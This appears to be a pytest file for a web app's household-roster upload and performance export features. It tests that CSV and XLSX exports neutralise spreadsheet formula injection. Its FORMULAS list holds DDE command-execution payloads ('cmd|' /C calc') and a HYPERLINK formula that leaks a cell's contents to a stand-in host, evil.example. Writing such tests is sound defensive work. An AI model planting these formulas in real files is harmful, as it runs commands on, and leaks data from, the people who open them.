"""Spreadsheet formula injection: text from roster files (and names) that a spreadsheet program
would run as a formula (= + - @, tab, carriage return) is neutralised in the CSV and XLSX exports
(GET /performance/unit/export, GET /performance/unit/quarter/export): the cell keeps the text behind
a leading apostrophe, no XLSX cell is a formula, and formula cells in an uploaded .xlsx roster are
never taken as text.
"""
import csv
import io
import zipfile

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import func, select

from tests.support import factories
from tests.support.roster_files import HOUSEHOLD_HEADERS, csv_bytes, household_row, upload
from webapp.extensions import db
from webapp.models import Household, Unit, Village
from webapp.services.calendar import local_today, month_key, quarter_of

from .conftest import login

FORMULAS = [
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"点我")',
    "=1+1",
]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def _xlsx_text(rows: list[dict]) -> bytes:
    """An .xlsx roster whose cells are text, even those starting with "=" (as Excel stores '=…)."""
    wb = Workbook()
    ws = wb.active
    ws.append(list(HOUSEHOLD_HEADERS))
    for r, row in enumerate(rows, start=2):
        for c, h in enumerate(HOUSEHOLD_HEADERS, start=1):
            cell = ws.cell(row=r, column=c)
            cell.value = row.get(h)
            if isinstance(cell.value, str):
                cell.data_type = "s"
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


@pytest.fixture(params=["roster.csv", "roster.xlsx"])
def formula_roster(request, app, world, client):
    """Helpers with formula-like names, and a roster (CSV, or .xlsx with text cells) whose village
    names, head names and addresses are formulas, pairing each helper with a household of one."""
    login(client, app, "admin")
    with app.app_context():
        unit = db.session.get(Unit, world["unit"])
        for i, text in enumerate(FORMULAS):
            factories.user(unit, f"fx{i}", "helper", name=text)
        factories.user(unit, "-2", "helper", name="负号账号")  # a username may start with "-"
        db.session.commit()
        db.session.remove()
    rows = [household_row(**{"村名": text, "户主姓名": text, "家庭住址": text, "帮扶责任人": f"fx{i}",
                             "身份证号": factories.citizen_id()}) for i, text in enumerate(FORMULAS)]
    rows.append(household_row(**{"村名": "东村", "帮扶责任人": "-2", "身份证号": factories.citizen_id()}))
    data = csv_bytes(rows) if request.param.endswith(".csv") else _xlsx_text(rows)
    preview, resp = upload(client, data, request.param, create_villages="1")
    assert resp is not None and resp.status_code == 200, preview.get_data(as_text=True)[:3000]
    with app.app_context():
        stored = set(db.session.scalars(select(Village.name)))
        db.session.remove()
    assert set(FORMULAS) <= stored  # kept as typed: neutralised on the way out, not on the way in
    return client


def _user_texts() -> set[str]:
    return set(FORMULAS) | {"-2"}


def _check_csv(body: bytes) -> int:
    text = body.decode("utf-8-sig")
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    seen = 0
    for cell in cells:
        if cell.startswith("'") and cell[1:] in _user_texts():
            seen += 1
        assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
        if cell.startswith("-"):
            float(cell)  # only a negative number may start with a minus
    return seen


def _check_xlsx(body: bytes) -> int:
    with zipfile.ZipFile(io.BytesIO(body)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                xml = z.read(name).decode()
                assert "<f>" not in xml and "<f " not in xml, name  # no formula element at all
    wb = load_workbook(io.BytesIO(body))  # formulas would load as formulas (not data_only)
    seen = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(DANGEROUS), (cell.coordinate, cell.value)
                    if cell.value.startswith("'") and cell.value[1:] in _user_texts():
                        seen += 1
    return seen


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_month_and_quarter_exports_neutralise_formulas(app, formula_roster, fmt):
    client = formula_roster
    with app.app_context():
        today = local_today()
    year, q = quarter_of(today)
    urls = [f"/performance/unit/export?month={month_key(today)}&format={fmt}",
            f"/performance/unit/quarter/export?quarter={year}-Q{q}&format={fmt}"]
    for url in urls:
        resp = client.get(url)
        assert resp.status_code == 200, url
        assert resp.headers["Content-Disposition"].startswith("attachment")
        seen = _check_csv(resp.data) if fmt == "csv" else _check_xlsx(resp.data)
        # each formula helper's display name and village is in the export, neutralised
        assert seen >= 2 * len(FORMULAS), (url, seen)


def _xlsx_with_formula_cells(column: str, formula: str) -> bytes:
    wb = Workbook()
    ws = wb.active
    ws.append(list(HOUSEHOLD_HEADERS))
    row = household_row(**{"身份证号": factories.citizen_id(), "帮扶责任人": ""})
    ws.append([row[h] for h in HOUSEHOLD_HEADERS])
    ws.cell(row=2, column=HOUSEHOLD_HEADERS.index(column) + 1).value = formula  # a real formula cell
    assert ws.cell(row=2, column=HOUSEHOLD_HEADERS.index(column) + 1).data_type == "f"
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


@pytest.mark.parametrize("column", ["户主姓名", "村名"])
@pytest.mark.parametrize("formula", [f for f in FORMULAS if f.startswith("=")])
def test_a_formula_cell_in_a_required_roster_column_is_refused(app, world, client, column, formula):
    login(client, app, "admin")
    with app.app_context():
        before = db.session.scalar(select(func.count()).select_from(Household))
    resp, result = upload(client, _xlsx_with_formula_cells(column, formula), "r.xlsx", create_villages="1")
    assert resp.status_code == 422 and result is None
    assert column in resp.get_data(as_text=True)  # the row error names the column
    with app.app_context():
        assert db.session.scalar(select(func.count()).select_from(Household)) == before
        assert not db.session.scalars(select(Village.name).where(Village.name.like("%cmd%"))).all()


def test_a_formula_cell_in_an_optional_roster_column_is_not_taken(app, world, client):
    """Formulas are read as their (absent) cached value, never as their text."""
    login(client, app, "admin")
    preview, resp = upload(client, _xlsx_with_formula_cells("家庭住址", FORMULAS[0]), "r.xlsx")
    assert resp is not None and resp.status_code == 200, preview.get_data(as_text=True)[:500]
    with app.app_context():
        addresses = db.session.scalars(select(Household.address)).all()
    assert not [a for a in addresses if a and a.startswith(DANGEROUS)], addresses


def test_the_export_checks_catch_a_formula():
    """The checks above fail on an unprotected cell (so they can fail)."""
    for bad in ("=1+1", "+1", "@A1", "-1+cmd|x"):
        with pytest.raises((AssertionError, ValueError)):
            _check_csv(f"name\r\n{bad}\r\n".encode())
    wb = Workbook()
    wb.active["A1"] = "=1+1"
    out = io.BytesIO()
    wb.save(out)
    with pytest.raises(AssertionError):
        _check_xlsx(out.getvalue())
